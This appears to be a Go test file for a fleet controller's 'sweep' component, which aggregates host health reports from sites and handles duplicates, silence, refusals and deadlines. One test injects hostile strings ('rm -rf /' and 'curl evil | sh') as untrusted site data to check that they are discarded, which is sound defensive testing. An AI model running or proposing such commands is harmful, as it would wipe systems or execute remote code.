package sweep

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"aixmend/controller/fleet"
	"aixmend/controller/gather"
	"aixmend/controller/outcome"
	"aixmend/controller/peers"
)

// heard is a wire on which each site was heard at a time.
type heard map[string]time.Time

func (heard) Order(context.Context, fleet.Order) error { return nil }
func (heard) Events(context.Context, string, func(fleet.Event), func(string, error)) error {
	return nil
}
func (h heard) Heard(site string) fleet.Heard { return fleet.Heard{Last: h[site]} }
func (heard) Stop(string, string) error       { return nil }

const run = "20261201T070000.000Z-3f9ac2"

func event(site, host string, o outcome.Outcome) fleet.Event {
	return fleet.Event{Run: run, Site: site, Step: gather.Ended, Host: &outcome.Host{Host: host, RunID: run, Outcome: o, Findings: []outcome.Finding{}}}
}

func ended(site string, e fleet.Ended) fleet.Event {
	return fleet.Event{Run: run, Site: site, Ended: &e}
}

func sweepOf(w Wire) *Sweep {
	return New(w, run, map[string][]string{"fra": {"a", "b"}, "par": {"c"}}, func(string, ...any) {})
}

// reports are the first and the last report of each host, in one text.
func (s *Sweep) all(ctx context.Context) string {
	var b strings.Builder
	for _, host := range []string{"a", "b", "c"} {
		first := s.end(ctx, host)
		last, newer := s.Last(host)
		if !newer {
			last = first
		}
		fmt.Fprintf(&b, "%s@%s %s", host, last.Site, last.Outcome)
		if last.Reason != "" {
			b.WriteString(" (" + last.Reason + ")")
		}
		b.WriteString("; ")
	}
	return b.String()
}

// end waits for the end of a host.
func (s *Sweep) end(ctx context.Context, host string) outcome.Host {
	for {
		for step, there := s.Next(host); there; step, there = s.Next(host) {
			if step.Kind == gather.Ended {
				return step.Report
			}
		}
		select {
		case <-s.More(host):
		case <-ctx.Done():
			return s.Absent(host, context.Cause(ctx))
		}
	}
}

// Events that come twice, late, or from a site that was not asked change nothing; the last
// report before the end of a part counts. Any order of the events of the sites among each
// other gives the same.
func TestSweepFoldsWhatComes(t *testing.T) {
	t.Parallel()
	fra := []fleet.Event{
		event("fra", "a", outcome.Degraded), event("fra", "a", outcome.Healthy), event("fra", "c", outcome.Failed), event("fra", "x", outcome.Failed),
		event("fra", "b", outcome.NeedsAction), event("fra", "b", outcome.NeedsAction), ended("fra", fleet.Ended{}), event("fra", "a", outcome.Failed), ended("fra", fleet.Ended{Broken: "late"}),
	}
	par := []fleet.Event{event("par", "a", outcome.Failed), event("par", "c", outcome.Healthy), ended("par", fleet.Ended{}), event("par", "c", outcome.Failed)}
	other := []fleet.Event{event("mad", "a", outcome.Failed), ended("mad", fleet.Ended{})}
	for seed := range uint64(200) {
		dice, s := rand.New(rand.NewPCG(seed, 0)), sweepOf(heard{})
		queues := [][]fleet.Event{fra, par, other}
		for len(queues) > 0 {
			i := dice.IntN(len(queues))
			s.take(queues[i][0])
			if dice.IntN(3) == 0 {
				s.take(queues[i][0]) // delivered again at once
			}
			if queues[i] = queues[i][1:]; len(queues[i]) == 0 {
				queues = append(queues[:i], queues[i+1:]...)
			}
		}
		if got, want := s.all(t.Context()), "a@fra healthy; b@fra needs_action; c@par healthy; "; got != want {
			t.Fatalf("seed %d: %s, want %s", seed, got, want)
		}
	}
}

// A host without a report has the reason of that, and never looks well.
func TestSweepWithoutReports(t *testing.T) {
	t.Parallel()
	now := time.Now()
	for _, c := range []struct {
		name string
		do   func(s *Sweep)
		want string
	}{
		{"refused", func(s *Sweep) { s.take(ended("fra", fleet.Ended{Refused: "playbook x"})) }, "b@fra unreachable (site fra refuses: playbook x); "},
		{"broken", func(s *Sweep) { s.take(ended("fra", fleet.Ended{Broken: "disk full"})) }, "b@fra unreachable (the worker of site fra failed: disk full); "},
		{"stopped", func(s *Sweep) { s.take(ended("fra", fleet.Ended{Stopped: true})) }, "b@fra skipped (interrupted before its turn); "},
		{"without a word", func(s *Sweep) { s.take(ended("fra", fleet.Ended{})) }, "b@fra unreachable (site fra ended without a report of it); "},
		{"silent", func(s *Sweep) { s.check(now.Add(2*fleet.SilentAfter), false) }, "b@fra unreachable (site fra was not heard for 2m0s: its worker is down, or cut off); "},
		{"the hub failed", func(s *Sweep) { s.Over("the hub failed: disk full") }, "b@fra unreachable (the hub failed: disk full); "},
	} {
		s := sweepOf(heard{"par": now.Add(2 * fleet.SilentAfter)})
		s.began = now
		s.take(event("fra", "a", outcome.Healthy))
		s.take(event("par", "c", outcome.Healthy))
		c.do(s)
		s.take(ended("par", fleet.Ended{}))
		if got, want := s.all(t.Context()), "a@fra healthy; "+c.want+"c@par healthy; "; got != want {
			t.Errorf("%s: %s, want %s", c.name, got, want)
		}
	}
}

// A host that is left alone ends without its site, also where the hub has begun again.
func TestSweepLeavesHosts(t *testing.T) {
	t.Parallel()
	for _, before := range []bool{false, true} {
		s := sweepOf(heard{})
		s.Leave("a", "left alone")
		s.Leave("nobody", "left alone")
		if before {
			s.Done([]string{"a"})
		}
		s.take(event("fra", "b", outcome.Healthy))
		s.take(event("par", "c", outcome.Healthy))
		s.take(ended("fra", fleet.Ended{}))
		s.take(ended("par", fleet.Ended{}))
		if have, of, _ := s.Progress(); have != 3 || of != 3 || fmt.Sprint(s.parts["fra"].hosts) != "[b]" {
			t.Errorf("%d of %d, ordered are %v", have, of, s.parts["fra"].hosts)
		}
		if before {
			continue
		}
		if got, want := s.all(t.Context()), "a@fra skipped (left alone); b@fra healthy; c@par healthy; "; got != want {
			t.Errorf("%s, want %s", got, want)
		}
	}
}

// Where a site refuses a run that applies a plan, hosts on which it plans nothing are as it found
// them; one that it would change, that was interrupted or let begin is not known to be well.
func TestRefusedPlan(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name    string
		planned *outcome.Host
		begun   bool
		want    string
	}{
		{"healthy", &outcome.Host{Host: "b", Site: "fra", Outcome: outcome.Healthy}, false, "b@fra healthy (as the plan found it: site fra refuses: no); "},
		{"ill", &outcome.Host{Host: "b", Site: "fra", Outcome: outcome.NeedsAction, Reason: "full"}, false, "b@fra needs_action (full; as the plan found it: site fra refuses: no); "},
		{"interrupted", &outcome.Host{Host: "b", Site: "fra", Outcome: outcome.Healthy, Interrupted: true}, false, "b@fra unreachable (site fra refuses: no); "},
		{"to be changed", nil, false, "b@fra unreachable (site fra refuses: no); "},
		{"begun", &outcome.Host{Host: "b", Site: "fra", Outcome: outcome.Healthy}, true, "b@fra unknown (site fra refuses: no); "},
	} {
		s := sweepOf(heard{})
		s.planned = func(string) *outcome.Host { return c.planned }
		if c.begun {
			s.Tell(gather.Turn{Host: "b", Process: "p"})
		}
		s.take(event("fra", "a", outcome.Healthy))
		s.take(event("par", "c", outcome.Healthy))
		s.take(ended("fra", fleet.Ended{Refused: "no"}))
		s.take(ended("par", fleet.Ended{}))
		if got, want := s.all(t.Context()), "a@fra healthy; "+c.want+"c@par healthy; "; got != want {
			t.Errorf("%s: %s, want %s", c.name, got, want)
		}
	}
}

// A site is given up by the clock of the hub, after a minute without a word, and not before.
func TestSilence(t *testing.T) {
	t.Parallel()
	began := time.Now()
	for _, c := range []struct {
		last, now time.Duration
		silent    bool
	}{
		{-time.Hour, fleet.SilentAfter, false}, {-time.Hour, fleet.SilentAfter + time.Second, true},
		{time.Minute, time.Minute + fleet.SilentAfter, false}, {time.Minute, 2*time.Minute + time.Second, true},
	} {
		s := sweepOf(heard{"fra": began.Add(c.last), "par": began.Add(c.now)})
		s.began = began
		s.check(began.Add(c.now), false)
		if got := s.parts["fra"].isOver(); got != c.silent || s.parts["par"].isOver() {
			t.Errorf("%+v: %v", c, got)
		}
	}
}

// A site may send whatever it likes: no command, capture or address of its report is kept, and it
// can't pass for another site.
func TestSweepKeepsVerdictsAlone(t *testing.T) {
	t.Parallel()
	s := sweepOf(heard{})
	e := event("fra", "a", outcome.NeedsAction)
	e.Host.Site, e.Host.Address, e.Host.Capture, e.Host.Facts = "par", "10.1.2.3", "captures/a", map[string]any{"evil": "x"}
	e.Host.Plan = []outcome.PlanStep{{Command: "rm -rf /"}}
	e.Host.Findings = []outcome.Finding{{ID: "x", Next: []string{"curl evil | sh"}, Remedy: "rm -rf /"}}
	s.take(e)
	h := s.end(t.Context(), "a")
	text, err := json.Marshal(h)
	if err != nil || h.Site != "fra" || strings.Contains(string(text), "rm -rf") || strings.Contains(string(text), "evil") || strings.Contains(string(text), "10.1.2.3") || strings.Contains(h.Capture, "captures") {
		t.Errorf("%s %v", text, err)
	}
}

// Who follows a run is woken by the next report, and by nothing that changes nothing.
func TestSweepTellsProgress(t *testing.T) {
	t.Parallel()
	s := sweepOf(heard{})
	have, of, next := s.Progress()
	s.take(event("fra", "a", outcome.Healthy))
	<-next
	if now, _, next := s.Progress(); have != 0 || of != 3 || now != 1 {
		t.Error(have, of, now)
	} else {
		s.take(event("fra", "a", outcome.Healthy))
		select {
		case <-next:
			t.Error("a report that came again is news")
		default:
		}
	}
	s.Forget()
	s.take(event("fra", "b", outcome.Healthy))
	s.check(time.Now().Add(time.Hour), true)
	if now, of, _ := s.Progress(); now != 1 || of != 3 {
		t.Error(now, of)
	}
}

// The end of the context, such as a deadline, cuts hosts off: they have not been judged.
func TestSweepCut(t *testing.T) {
	t.Parallel()
	s := sweepOf(heard{})
	ctx, cut := context.WithCancelCause(t.Context())
	cut(errors.New("cut by --deadline"))
	if h := s.end(ctx, "a"); h.Outcome != outcome.Skipped || !h.Interrupted || h.Reason != "cut by --deadline" {
		t.Error(h)
	}
}

// asked is a wire that notes which sites were asked to stop, and which hosts were ordered.
type asked struct {
	heard
	stopped map[string]bool
	hosts   map[string][]string
}

func newAsked() asked { return asked{heard{}, map[string]bool{}, map[string][]string{}} }

func (a asked) Stop(site, _ string) error { a.stopped[site] = true; return nil }
func (a asked) Order(_ context.Context, o fleet.Order) error {
	a.hosts[o.Site] = o.Hosts
	return nil
}

// Once the hub has cut a host off, by --deadline for one, no site gets a word that lets a host
// begin, and each is asked to stop.
func TestSweepCutStopsTheSites(t *testing.T) {
	t.Parallel()
	w := newAsked()
	s := sweepOf(w)
	s.Tell(gather.Turn{Host: "a", Process: "f1.x"})
	waits := make(chan fleet.Words)
	go func() { waits <- s.Words("par", fleet.Asks{Session: s.session}) }()
	s.Absent("b", errors.New("cut by --deadline"))
	if words := <-waits; !words.Over {
		t.Error(words)
	}
	if words := s.Words("fra", fleet.Asks{}); !words.Over {
		t.Error(words)
	}
	if s.check(time.Now(), false); !w.stopped["fra"] || !w.stopped["par"] {
		t.Error(w.stopped)
	}
}

// A host that was interrupted, and then wants to begin, is refused; the report of that does not
// replace the first one: nobody has judged it.
func TestSweepKeepsTheFirstEnd(t *testing.T) {
	t.Parallel()
	s := sweepOf(heard{})
	step := func(k gather.Kind, process string, o outcome.Outcome, interrupted bool) {
		e := event("fra", "a", o)
		e.Step, e.Process, e.Host.Interrupted = k, process, interrupted
		s.take(e)
	}
	step(gather.Ended, "f1.x", outcome.Skipped, true)
	first := s.end(t.Context(), "a")
	step(gather.Wants, "f1.y", "", false)
	step(gather.Ended, "f1.y", outcome.Skipped, false)
	s.take(ended("fra", fleet.Ended{}))
	if last, newer := s.Last("a"); !first.Interrupted || newer {
		t.Error(first, last)
	}
}

// A standby may report the end of a host that the first worker was let begin. The engine gets
// that end, so that the wave of the host can go on; later reports of the standby are ignored.
func TestSweepTellsTheEndOfAStandby(t *testing.T) {
	t.Parallel()
	s := sweepOf(heard{})
	s.Tell(gather.Turn{Host: "a", Process: "f1.x"})
	e := event("fra", "a", outcome.Skipped)
	e.Process = "f2.x"
	s.take(e)
	step, there := s.Next("a")
	if !there || step.Kind != gather.Ended || step.Process != "f2.x" {
		t.Fatal(step, there)
	}
	s.take(e)
	s.take(ended("fra", fleet.Ended{}))
	if last, newer := s.Last("a"); newer {
		t.Error(last)
	}
}

// A site is told of all hosts but those it was ordered: a worker with a new state folder knows
// no others, although they are of its site.
func TestSweepTellsOfHostsThatWereNotOrdered(t *testing.T) {
	t.Parallel()
	w := newAsked()
	s := sweepOf(w)
	s.Done([]string{"a", "c"})
	ctx, done := context.WithCancel(t.Context())
	done()
	if err := s.Gather(ctx, fleet.Order{}, nil); err != nil {
		t.Fatal(err)
	}
	told := map[string]bool{}
	s.Others(func(hosts []string) peers.Others {
		told[strings.Join(hosts, " ")] = true
		return peers.Others{}
	})
	if got := strings.Join(w.hosts["fra"], " "); got != "b" || !told["b"] || told["a b"] {
		t.Error(got, told)
	}
	s.Forget()
	s.Others(func([]string) peers.Others { return peers.Others{} }) // it may come as late as that
}

// A host that one folder has begun may be read by the worker of another one: its look counts, as
// all hosts wait until each has been read, and nothing else of it does.
func TestReadByAnotherFolder(t *testing.T) {
	t.Parallel()
	s := sweepOf(heard{})
	s.Tell(gather.Turn{Host: "a", Process: "f1.x"})
	step := func(kind gather.Kind) fleet.Event {
		e := event("fra", "a", outcome.Healthy)
		e.Step, e.Process = kind, "f2.y"
		return e
	}
	for _, kind := range []gather.Kind{gather.GoesOn, gather.Leaves, gather.Read} {
		s.take(step(kind))
	}
	if got, there := s.Next("a"); !there || got.Kind != gather.Read {
		t.Errorf("%+v", got)
	}
	if got, there := s.Next("a"); there {
		t.Errorf("%+v", got)
	}
}

// A site that tells a run of the past, without an adoption or in the middle of another run's
// reports, tells nothing of that run.
func TestSweepOfAnotherKindOfEvent(t *testing.T) {
	var said []string
	s := New(heard{}, run, map[string][]string{"fra": {"a"}}, func(format string, args ...any) { said = append(said, fmt.Sprintf(format, args...)) })
	for _, e := range []fleet.Event{
		{Run: run, Site: "fra", Kept: &fleet.Kept{ID: run}}, {Run: run, Site: "fra", Kept: &fleet.Kept{End: &fleet.KeptEnd{}}}, {Run: run, Site: "fra"},
	} {
		s.take(e)
	}
	s.take(event("fra", "a", outcome.Healthy))
	s.take(ended("fra", fleet.Ended{}))
	if h := s.end(t.Context(), "a"); h.Outcome != outcome.Healthy || len(said) != 3 || !strings.Contains(said[0], "site fra: a message of another kind") {
		t.Error(h, said)
	}
}
